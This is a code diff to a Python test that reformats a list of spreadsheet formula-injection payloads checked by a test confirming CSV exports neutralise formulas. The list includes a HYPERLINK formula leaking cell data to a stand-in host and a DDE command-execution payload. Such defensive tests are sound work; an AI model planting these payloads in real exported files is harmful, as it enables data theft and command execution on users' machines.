@@ -246,7 +246,14 @@ def test_five_thousand_versions_keep_every_tab_small(admin_server: InThreadServe
 
 # -- CSV exports and terminal reports ----------------------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+]
 
 
 def test_csv_exports_neutralise_formulas(admin_server: InThreadServer) -> None:
